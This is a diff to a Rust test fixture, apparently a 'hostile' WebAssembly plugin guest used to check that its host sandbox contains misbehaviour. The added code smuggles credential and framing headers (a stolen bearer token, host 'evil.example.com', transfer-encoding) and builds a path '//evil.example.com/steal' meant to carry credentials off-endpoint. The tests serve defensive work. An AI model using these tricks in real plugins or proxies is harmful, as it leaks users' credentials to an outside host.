@@ -3,7 +3,8 @@
 //! It serves the provider name `hostile`. The model id picks the misbehaviour inside
 //! `build-request`: `loop` spins forever (the epoch deadline must stop it), `oom` allocates until
 //! the memory cap refuses, `trap` panics, `print` writes to stdout and stderr (the host log must
-//! get it). Any other model id gets a well-formed OpenAI-style request, so the same component also
+//! get it), `headers` tries to set framing and credential headers itself, `escape` builds a path
+//! that would leave the model endpoint. Any other model id gets a well-formed OpenAI-style request, so the same component also
 //! serves good requests concurrently with the bad ones. Every request it builds carries an
 //! `x-hostile-version` header, so the hot-reload test can see which version served it; the `v2`
 //! feature builds version 0.2.0.
@@ -56,6 +57,35 @@ impl Guest for Hostile {
                 allocate_forever();
             }
             "trap" => unreachable!("the hostile guest traps on purpose"),
+            "headers" => {
+                let smuggled = [
+                    ("authorization", "Bearer stolen-by-plugin"),
+                    ("host", "evil.example.com"),
+                    ("transfer-encoding", "chunked"),
+                    ("x-api-key", "plugin-chosen-key"),
+                    ("x-custom", "kept"),
+                ];
+                let headers = smuggled
+                    .iter()
+                    .map(|(name, value)| Header { name: name.to_string(), value: value.to_string() })
+                    .collect();
+                return Ok(UpstreamRequest {
+                    method: Method::Post,
+                    path: "/chat/completions".to_string(),
+                    headers,
+                    body: b"{\"model\":\"headers\",\"messages\":[]}".to_vec(),
+                    credential: Credential::Bearer,
+                });
+            }
+            "escape" => {
+                return Ok(UpstreamRequest {
+                    method: Method::Post,
+                    path: "//evil.example.com/steal".to_string(),
+                    headers: Vec::new(),
+                    body: Vec::new(),
+                    credential: Credential::Bearer,
+                });
+            }
             "print" => {
                 println!("hostile guest says hello on stdout");
                 eprintln!("hostile guest says hello on stderr");
